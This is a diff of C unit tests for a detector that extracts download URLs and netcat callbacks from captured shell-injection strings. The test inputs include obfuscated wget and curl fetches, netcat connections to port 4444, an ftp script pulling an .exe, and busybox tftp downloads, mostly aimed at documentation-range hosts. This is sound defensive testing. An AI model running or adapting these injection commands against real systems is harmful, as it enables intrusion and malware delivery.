@@ -372,6 +372,28 @@ static void test_nested_quotes(void **state)
     expect1("x=`wget -qO- http://1.2.3.4/bt`", "http://1.2.3.4/bt", "wget", "plain");
 }
 
+/* The shell pass skips a layer that names none of its commands: a command
+ * name spelled across quotes, with a variable or with escapes, an "nc" of its
+ * own and an ftp script's OPEN in capitals must still be seen; a browser's
+ * head has nothing to find. */
+static void test_shell_skip_edges(void **state)
+{
+    (void)state;
+    expect1("w'g'et http://192.0.2.7/q1", "http://192.0.2.7/q1", "wget", "plain");
+    expect1("c\"ur\"l -O 192.0.2.7/q2", "http://192.0.2.7/q2", "curl", "plain");
+    expect1("a=wg; b=et; $a$b http://192.0.2.7/q3", "http://192.0.2.7/q3", "wget", "plain");
+    expect1("w\\get http://192.0.2.7/q4", "http://192.0.2.7/q4", "wget", "plain");
+    expect1("id;/bin/nc 192.0.2.7 4444 >/tmp/q5", "tcp://192.0.2.7:4444", "nc", "plain");
+    expect1("\"n\"c 192.0.2.7 4445 >/tmp/q6", "tcp://192.0.2.7:4445", "nc", "plain");
+    expect1("cmd=ncat 192.0.2.7 4446 >/tmp/q7", "tcp://192.0.2.7:4446", "nc", "plain");
+    expect1("echo OPEN 192.0.2.7> s&echo GET q8.exe>> s&ftp -s:s", "ftp://192.0.2.7/q8.exe", "ftp-script", "plain");
+    expect1("x;busybox tftp -g -r q9 192.0.2.7", "tftp://192.0.2.7/q9", "tftp", "plain");
+    expect_none("GET /?t=1&n=2 HTTP/1.1\r\nHost: 192.0.2.8\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; "
+                "Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\n"
+                "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
+                "Accept-Encoding: gzip, deflate\r\nConnection: keep-alive\r\n\r\n");
+}
+
 /* ---- what is not reported, dedup, order ------------------------------------------- */
 
 static void test_reject(void **state)
@@ -586,6 +608,7 @@ int main(void)
         cmocka_unit_test(test_ftpget), cmocka_unit_test(test_every_command_word),
         cmocka_unit_test(test_ftp_script),
         cmocka_unit_test(test_nc),
+        cmocka_unit_test(test_shell_skip_edges),
         cmocka_unit_test(test_mirai_wget_g),
         cmocka_unit_test(test_ifs),
         cmocka_unit_test(test_urlencoded),
